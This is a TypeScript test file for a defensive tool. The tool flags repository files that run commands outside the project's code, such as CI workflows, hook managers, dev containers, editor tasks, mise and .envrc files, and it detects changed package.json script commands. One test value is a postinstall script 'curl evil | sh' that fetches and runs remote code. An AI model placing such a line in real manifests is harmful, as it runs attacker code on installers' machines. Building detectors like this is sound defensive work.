import { describe, expect, it } from 'vitest';
import { isManifest, manifestCommandsChanged, runsElsewhere } from './runsElsewhere.js';

describe('runsElsewhere', () => {
  it('takes CI, hook managers, dev containers, editor tasks and settings, and what runs on entering the folder, where their tools look, and nothing beside them', () => {
    for (const f of ['.github/workflows/ci.yml', '.github/actions/setup/action.yml', '.gitlab-ci.yml', '.circleci/config.yml', 'Jenkinsfile', 'azure-pipelines.yml', '.buildkite/pipeline.yml', '.husky/pre-commit', '.githooks/pre-push', '.pre-commit-config.yaml', 'lefthook.yml', '.devcontainer/devcontainer.json', '.devcontainer.json', '.vscode/tasks.json', '.vscode/launch.json', '.github', '.vscode', '.gitea/workflows/ci.yml', '.forgejo/workflows/ci.yml', 'bitbucket-pipelines.yml', '.travis.yml', '.drone.yml', '.woodpecker/ci.yml', '.yarnrc.yml', '.npmrc', '.vscode/settings.json', '.envrc', 'mise.toml', '.mise.toml', 'mise.local.toml', '.mise.local.toml', 'mise/config.toml', '.mise/config.toml', '.config/mise.toml', '.config/mise/config.toml', '.config/mise/conf.d/hooks.toml', '.idea/runConfigurations/Server.xml', '.run/Server.run.xml', '.idea/watcherTasks.xml', '.idea', '.config', '.miserc.toml', 'mise.dev.toml', '.mise.ci.toml', '.config/mise.dev.toml', 'mise/config.dev.toml', '.mise/config.dev.toml', '.config/mise/config.dev.toml']) {
      expect(runsElsewhere(f), f).toBe(true);
    }
    for (const f of ['.github/ISSUE_TEMPLATE/bug.md', '.github/CODEOWNERS', '.vscode/extensions.json', '.vscode/settings.json.bak', 'packages/a/.vscode/settings.json', 'Taskfile.yml', 'justfile', 'Makefile', 'mise-tasks/build', '.tool-versions', '.env', 'src/.envrc', 'mise.toml.bak', 'mise.dev.toml.bak', 'mise.dev/x.toml', 'packages/a/mise.dev.toml', 'mymise.dev.toml', '.config/mise/tasks/build', '.idea/vcs.xml', '.idea/codeStyles/Project.xml', '.config/other.toml', 'docs/.github/workflows/ci.yml', '.github/workflows-old.md', '.gitea/issue_template/bug.md', 'packages/a/.npmrc', 'Jenkinsfile.md', 'package.json', 'src/a.ts']) {
      expect(runsElsewhere(f), f).toBe(false);
    }
  });

  it('takes a package.json at any depth', () => {
    expect(['package.json', 'packages/lib/package.json'].map(isManifest)).toEqual([true, true]);
    expect(['package.json.bak', 'my-package.json', 'package-lock.json'].map(isManifest)).toEqual([false, false, false]);
  });
});

describe('manifestCommandsChanged', () => {
  const pkg = (fields: object) => JSON.stringify({ name: 'x', version: '1.0.0', ...fields }, null, 2);

  it('is a change of what the scripts or a hook manager run, not of the rest, the layout or the order of keys', () => {
    const before = pkg({ scripts: { test: 'vitest', build: 'tsc' } });
    expect(manifestCommandsChanged(before, pkg({ version: '2.0.0', scripts: { build: 'tsc', test: 'vitest' }, dependencies: { a: '1' } }))).toBe(false);
    expect(manifestCommandsChanged(before, `\uFEFF${JSON.stringify(JSON.parse(before))}`)).toBe(false);
    expect(manifestCommandsChanged(before, pkg({ scripts: { test: 'vitest', build: 'tsc', postinstall: 'curl evil | sh' } }))).toBe(true);
    expect(manifestCommandsChanged(before, pkg({ scripts: { test: 'vitest', build: 'tsc' }, husky: { hooks: { 'pre-commit': 'sh x' } } }))).toBe(true);
    expect(manifestCommandsChanged(before, pkg({}))).toBe(true);
  });

  it('an absent side runs nothing; a side that is not a JSON object cannot be told, so it counts as changed', () => {
    expect(manifestCommandsChanged(null, pkg({}))).toBe(false);
    expect(manifestCommandsChanged(null, pkg({ scripts: { prepare: 'sh x' } }))).toBe(true);
    expect(manifestCommandsChanged(pkg({ scripts: { test: 'vitest' } }), null)).toBe(true);
    for (const broken of ['{"scripts": {},}', '[]', '"x"', '']) expect(manifestCommandsChanged(pkg({}), broken), broken).toBe(true);
  });
});
